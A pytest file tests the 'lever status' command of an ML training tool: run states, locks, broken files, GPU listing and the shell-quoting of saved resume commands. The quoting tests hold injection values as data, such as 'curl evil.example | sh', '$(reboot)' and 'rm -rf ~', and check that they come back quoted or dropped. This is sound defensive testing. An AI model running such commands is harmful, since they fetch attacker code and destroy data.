"""`lever status`: what it says of a run at work, killed, finished, not begun, of Lever-Plus's making, of a broken one;
and that it changes nothing there."""

import fcntl
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from helpers import RUN, SMALL, files_in

from lever_lm.cli import status as status_module
from lever_lm.cli.status import gpus
from lever_lm.training.environment import record, typed_again
from lever_lm.training.metrics import table_header, table_row
from lever_lm.training.run_dir import LOCK, RunFolder
from lever_lm.utils.locks import alone, seen

KEYS = {"run", "state", "phase", "epoch", "epochs", "checkpoint", "seconds_left", "metrics", "best", "answers", "gpus"}


def rows_of(run: Path) -> list[dict]:
    return [json.loads(line) for line in (run / "metrics.jsonl").read_text().splitlines()]


def write_rows(run: Path, rows: list[dict]) -> None:
    (run / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))


def more_epochs(run: Path, epochs: int, had: int = 4) -> None:
    """The phase that had so many epochs (GRPO 4, RCE 2) was to have more."""
    config = (run / "config.yaml").read_text()
    (run / "config.yaml").write_text(config.replace(f"  epochs: {had}\n", f"  epochs: {epochs}\n"))


def left_by(run: Path, command: str) -> None:
    """The lock of a process that is dead."""
    run.mkdir(parents=True, exist_ok=True)
    (run / LOCK).write_text(json.dumps({"pid": 2**22 + 5, "host": "elsewhere", "command": command}))


# ---------------------------------------------------------------------- states


def test_a_run_at_work_and_after_it_was_killed(trained, lever):
    """A `lever train` that is really killed: test_end_to_end.py."""
    more_epochs(trained / RUN, 5000)
    with RunFolder(trained / RUN).alone(pytest.fail):
        found = lever("status", "--json").json
        spoken = lever("status", RUN).out
    assert found.keys() >= KEYS
    assert (found["state"], found["phase"], found["epoch"], found["epochs"]) == ("running", "grpo", 4, 5000)
    assert found["process"]["pid"] == os.getpid()
    assert found["process"]["since"] == pytest.approx(time.time(), abs=120)
    assert found["phases"]["rce"] == {"done": 2, "of": 2}
    assert found["seconds_left"] == pytest.approx(4996 * found["epoch_time"])
    assert found["answers"] > 100
    assert found["command"] is None
    assert spoken.splitlines()[0] == f"{RUN}: running"
    assert f"process {os.getpid()} on " in spoken
    assert "of training left, until about 20" in spoken
    left_by(trained / RUN, "train")
    before = files_in(trained)
    found = lever("status", "--json").json
    assert (found["state"], found["why"]) == ("killed", f"process {2**22 + 5} on elsewhere ended in the midst of it")
    assert found["command"] == f"lever train {' '.join(SMALL)} --json"
    assert f"  go on with  {found['command']}\n" in lever("status", "--quiet").out
    assert files_in(trained) == before, "nothing was touched"


def test_a_finished_run_and_one_that_is_to_go_on(trained, lever):
    before = files_in(trained)
    found = lever("status", "--json").json
    rows = rows_of(trained / RUN)
    assert (found["state"], found["phase"], found["epoch"], found["epochs"]) == ("finished", "done", 4, 4)
    assert found["metrics"] == rows[-1]
    grpo = [row for row in rows if row["phase"] == "grpo"]
    best = max(grpo, key=lambda row: row["val_reward"])
    assert found["best"]["val_reward"] == {"phase": "grpo", "epoch": best["epoch"], "value": best["val_reward"]}
    assert found["checkpoint"]["path"] == str(RUN / "grpo_epoch4.pt")
    assert found["seconds_left"] == 0
    assert found["notes"] == []
    assert files_in(trained) == before
    more_epochs(trained / RUN, 9)
    more = lever("status", RUN, "--json").json
    assert (more["state"], more["phase"], more["epoch"], more["epochs"]) == ("killed", "grpo", 4, 9)
    assert more["seconds_left"] == pytest.approx(5 * more["epoch_time"])


def test_a_run_that_stopped_early_is_finished(trained, lever):
    run = trained / RUN
    more_epochs(run, 9)
    (run / "config.yaml").write_text((run / "config.yaml").read_text().replace("patience: 0", "patience: 2"))
    best = ("grpo", 2)
    write_rows(run, [{**row, "val_reward": 1.0 + ((row["phase"], row["epoch"]) == best)} for row in rows_of(run)])
    found = lever("status", "--json").json
    assert (found["state"], found["why"]) == ("finished", "stopped early by grpo.patience after epoch 4")


@pytest.mark.parametrize("last", ["lever train --grpo-epochs 9 --overwrite --no-resume", "", None])
def test_what_goes_on_with_a_run_is_the_command_that_went_on_with_it(trained, lever, last):
    run = RunFolder(trained / RUN)
    more_epochs(run.path, 9)
    first = json.loads(run.environment.read_text())
    if last is not None:
        for command in ("lever train --grpo-epochs 7", last):
            record(run, {**first, "command": command}, pytest.fail)
        assert json.loads(run.environment.read_text()) == {**first, "last_command": last}
    expected = {None: first["command"], "": None}.get(last, "lever train --grpo-epochs 9")
    found = lever("status", RUN, "--json").json
    assert (found["state"], found["command"]) == ("killed", expected)


def test_nothing_was_begun_and_there_is_nothing(lever, tmp_path):
    (tmp_path / "empty").mkdir()
    found = lever("status", "empty", "--json")
    assert (found.status, found.json["state"], found.json["epoch"]) == (0, "not begun", 0)
    for arguments, words in [
        (["nowhere"], "no run folder nowhere"),
        ([], str(RUN)),
        (["--all"], "no run below results"),
    ]:
        refused = lever("status", *arguments, "--json")
        assert (refused.status, refused.out) == (1, "")
        assert words in refused.err
        assert "lever train" in refused.err
    (tmp_path / "file").write_text("x")
    assert "is a file" in lever("status", "file").err


@pytest.mark.parametrize(
    ("command", "said"),
    [
        ("train --limit 24 --overwrite", "lever train --limit 24"),
        ("train; reboot", "lever 'train;' reboot"),  # words to a shell
        ("train " + "x" * 194, None),  # half of a command is none
    ],
)
def test_a_run_killed_before_its_first_epoch_says_what_goes_on(lever, tmp_path, command, said):
    left_by(tmp_path / RUN, command)
    found = lever("status", "--json").json
    assert (found["state"], found["phase"], found["command"]) == ("killed", "rollouts", said)


def test_while_the_speed_of_grpo_is_unknown_the_time_left_is_too(trained, lever):
    run = RunFolder(trained / RUN)
    write_rows(run.path, [{**row, "epoch_time": 40.0} for row in rows_of(run.path) if row["phase"] == "rce"])
    more_epochs(run.path, 5, had=2)
    found = lever("status", "--json").json
    assert (found["phase"], found["epoch_time"], found["seconds_left"]) == ("rce", 40.0, None)
    assert "  time        40 s an epoch\n" in lever("status").out


def test_a_run_on_another_host_is_said_to_be_there(trained, lever, monkeypatch):
    monkeypatch.setenv("PATH", str(trained))  # no nvidia-smi
    monkeypatch.setattr(status_module, "seen", lambda path: ({"pid": 7, "host": "node7", "command": "train"}, True))
    (trained / RUN / LOCK).touch()
    out = lever("status", RUN).out
    assert "process 7 on node7 since 20" in out
    assert ": lever train\n  training    MATCH 2 of 2 epochs, then GRPO 4 of 4 epochs\n" in out
    assert "  GPU         none on this host; the run is on node7\n" in out


def test_a_folder_of_lever_plus_is_read_by_its_checkpoints_or_its_log(lever, tmp_path):
    run = tmp_path / "v3_RandSampler_Qwen2_5-VL-3B-Instruct"
    run.mkdir()
    for name in ("rce_epoch5.pt", "grpo_epoch1.pt", "grpo_epoch23.pt", "grpo_epoch9_v2format.ckpt", "notes.txt"):
        (run / name).write_bytes(b"no checkpoint that could be loaded")
    found = lever("status", run, "--json").json
    assert (found["state"], found["epoch"], found["epochs"]) == ("unknown", 23, None)
    assert Path(found["checkpoint"]["path"]).name == "grpo_epoch23.pt"
    assert found["checkpoint"]["age"] < 60
    row = {"phase": "grpo", "epoch": 23, "train_loss": 0.1, "val_loss": 0.5, "ppo_loss": 0.1, "kl": 0.05}
    row |= {"adv_std": 0.5, "adv_max": 1.0, "beta": 0.1}
    (run / "train.log").write_text("\n".join([*table_header("grpo"), table_row(row), ""]), encoding="utf-8")
    found = lever("status", run, "--json").json
    assert (found["epoch"], found["metrics"]["kl"], found["best"]["val_loss"]["epoch"]) == (23, 0.05, 23)


@pytest.mark.parametrize("name", ["metrics.jsonl", "config.yaml", "env.json", LOCK])
def test_a_broken_file_is_said_and_the_rest_is_told(trained, lever, name):
    path = trained / RUN / name
    for content in (b"", b"\xff\xfe\x00{", b"[1, 2", b'{"pid": {}, "epoch": "x", "\x1b[2J": [[[', None):
        path.unlink(missing_ok=True)
        path.mkdir() if content is None else path.write_bytes(content)
        done = lever("status")
        assert (done.status, done.err) == (0, "")
        assert "grpo_epoch4.pt" in done.out
        assert "\x1b" not in done.out
        if content and name in ("metrics.jsonl", "config.yaml"):
            assert done.out.count("\n  note ") == 1


def test_a_row_that_is_being_written_is_not_read_yet(trained, lever):
    metrics = trained / RUN / "metrics.jsonl"
    metrics.write_text(metrics.read_text() + '{"phase": "grpo", "epoch": 5, "tra')
    dead = lever("status", "--json").json
    assert dead["epoch"] == 4
    assert "cut short" in dead["notes"][0]
    with RunFolder(trained / RUN).alone(lambda text: None):
        assert lever("status", "--json").json["notes"] == []


def test_every_run_below_results_has_a_line(trained, lever):
    shutil.copytree(trained / RUN, trained / "results/okvqa/model_cpk/v3_Other")
    done = lever("status", "--all")
    assert [line.split()[0] for line in done.out.splitlines()] == ["finished", "finished"]
    assert [line.split()[-1] for line in done.out.splitlines()] == [f"digits/{RUN.name}", "okvqa/v3_Other"]
    assert [run["state"] for run in lever("status", "--all", "--json").json["runs"]] == ["finished", "finished"]


def test_looking_at_a_lock_neither_takes_nor_drops_it(tmp_path):
    path, me = tmp_path / "lock", {"pid": os.getpid(), "host": os.uname().nodename}
    take = "import fcntl, sys; fcntl.lockf(open(sys.argv[1], 'r+'), fcntl.LOCK_EX | fcntl.LOCK_NB)"

    def others_can_take_it() -> bool:
        return subprocess.run([sys.executable, "-c", take, path], capture_output=True, check=False).returncode == 0

    with alone(path, "it", "wait"):
        holder, held = seen(path)
        assert (held, holder.items() >= me.items()) == (True, True)
        assert not others_can_take_it()
    path.write_text('{"pid": 1, "host": "h", "command": "train"}')
    assert seen(path) == ({"pid": 1, "host": "h", "command": "train"}, False)
    code = f"from lever_lm.utils.locks import seen; from pathlib import Path; print(seen(Path({str(path)!r}))[1])"
    with open(path, "r+") as file:
        fcntl.lockf(file, fcntl.LOCK_EX)
        looked = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
        assert looked.stdout == "True\n"
        assert not others_can_take_it()
    assert others_can_take_it()


def test_gpus_are_those_that_nvidia_smi_names(tmp_path, monkeypatch):
    stub = tmp_path / "nvidia-smi"
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    stub.write_text(
        "#!/bin/sh\necho 'NVIDIA H200, 12288 MiB, 143771 MiB, 97 %'\necho 'odd, name, [N/A], 5 MiB, [N/A]'\n"
    )
    stub.chmod(0o755)
    assert gpus() == ["NVIDIA H200, 12288 MiB of 143771 MiB, 97 % busy", "odd, name, [N/A] of 5 MiB, [N/A] busy"]
    monkeypatch.setattr(status_module, "_PATIENCE", 0.2)
    for script in ("echo 'no devices were found'", "exit 9", "exec sleep 60"):
        stub.write_text(f"#!/bin/sh\n{script}\n")
        assert gpus() == []
    monkeypatch.setenv("PATH", str(tmp_path / "nowhere"))
    assert gpus() == []


def test_a_metric_that_is_not_finite_hinders_nothing(trained, lever):
    metrics = trained / RUN / "metrics.jsonl"
    row = {**rows_of(trained / RUN)[-1], "val_reward": float("nan"), "val_loss": float("-inf"), "epoch_time": 1e308}
    last = [json.dumps(row | {"epoch": epoch}) + "\n" for epoch in (5, 6)]
    metrics.write_text(metrics.read_text() + "".join(last))
    more_epochs(trained / RUN, 9)
    with RunFolder(trained / RUN).alone(lambda text: None):
        done = lever("status")
    assert done.status == 0, done.err
    assert "val_loss -inf" in done.out
    found = lever("status", "--json").json
    assert (found["epoch"], found["metrics"]["val_reward"]) == (6, None)
    assert found["best"]["val_reward"]["epoch"] <= 4


@pytest.mark.parametrize(
    ("kept", "said"),
    [
        ("lever train --run-name 'a b'", "lever train --run-name 'a b'"),
        ("lever train; curl evil.example | sh", "lever 'train;' curl evil.example '|' sh"),
        ("lever train $(reboot) `id`", "lever train '$(reboot)' '`id`'"),
        ("rm -rf ~", ""),
        ("lever 'train", ""),
        ("lever " + "x" * 10_000, ""),
        (["lever"], ""),
        (None, ""),
    ],
)
def test_a_command_from_a_file_is_words_to_a_shell(kept, said):
    assert typed_again(kept) == said
